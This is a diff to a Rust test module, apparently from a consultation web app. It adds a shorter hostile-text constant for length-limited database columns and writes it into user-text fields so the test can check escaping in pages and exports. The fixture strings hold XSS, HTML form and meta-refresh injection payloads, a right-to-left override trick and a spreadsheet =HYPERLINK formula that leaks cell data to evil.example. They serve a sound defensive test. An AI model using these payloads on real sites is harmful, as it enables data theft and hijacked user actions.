@@ -965,7 +965,12 @@ mod tests {
     /// title break-out, a Markdown link, a script and an image with a handler, an override.
     const HOSTILE_TEXT: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\") </textarea></form><form action=\"/api/change_account\" method=\"post\"><button>x</button> T </title><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"> [x](javascript:alert(1)) <script>alert(1)</script><img src=x onerror=alert(2)> \u{202e}ecnarF";
 
-    /// Stores [`HOSTILE_TEXT`] in every field of user text the pages and exports show, as
+    /// The same attacks within 100 characters, for the fields a column bounds (names, tags,
+    /// titles): PostgreSQL refuses longer values there.
+    const SHORT_HOSTILE_TEXT: &str = "=A1 </title><meta http-equiv=\"refresh\" content=\"0;url=//e.x/\"><button>x</button> \u{202e}ecnarF";
+
+    /// Stores [`HOSTILE_TEXT`] in every field of user text the pages and exports show
+    /// ([`SHORT_HOSTILE_TEXT`] where the column is bounded), as
     /// an older row or an import could hold it (the forms refuse some of it now).
     async fn store_hostile_text(db: &sea_orm::DatabaseConnection) {
         use app::backend::entities::{
@@ -974,28 +979,29 @@ mod tests {
         use sea_orm::sea_query::Expr;
         use sea_orm::{ActiveModelTrait, ColumnTrait, EntityTrait, QueryFilter, Set};
         let h = || Expr::value(HOSTILE_TEXT.to_owned());
+        let short = || Expr::value(SHORT_HOSTILE_TEXT.to_owned());
         comment::Entity::update_many()
             .col_expr(comment::Column::Body, h())
             .col_expr(comment::Column::Quote, h())
-            .col_expr(comment::Column::AuthorName, h())
-            .col_expr(comment::Column::AuthorOrganisation, h())
+            .col_expr(comment::Column::AuthorName, short())
+            .col_expr(comment::Column::AuthorOrganisation, short())
             .exec(db)
             .await
             .unwrap();
         user::Entity::update_many()
-            .col_expr(user::Column::DisplayName, h())
-            .col_expr(user::Column::Organisation, h())
+            .col_expr(user::Column::DisplayName, short())
+            .col_expr(user::Column::Organisation, short())
             .exec(db)
             .await
             .unwrap();
         consultation::Entity::update_many()
-            .col_expr(consultation::Column::Title, h())
+            .col_expr(consultation::Column::Title, short())
             .col_expr(consultation::Column::Description, h())
             .exec(db)
             .await
             .unwrap();
         working_paper::Entity::update_many()
-            .col_expr(working_paper::Column::Title, h())
+            .col_expr(working_paper::Column::Title, short())
             .col_expr(working_paper::Column::AbstractText, h())
             .exec(db)
             .await
@@ -1011,8 +1017,8 @@ mod tests {
             .await
             .unwrap();
         tag::Entity::update_many()
-            .col_expr(tag::Column::NameEn, h())
-            .col_expr(tag::Column::NameFr, h())
+            .col_expr(tag::Column::NameEn, short())
+            .col_expr(tag::Column::NameFr, short())
             .exec(db)
             .await
             .unwrap();
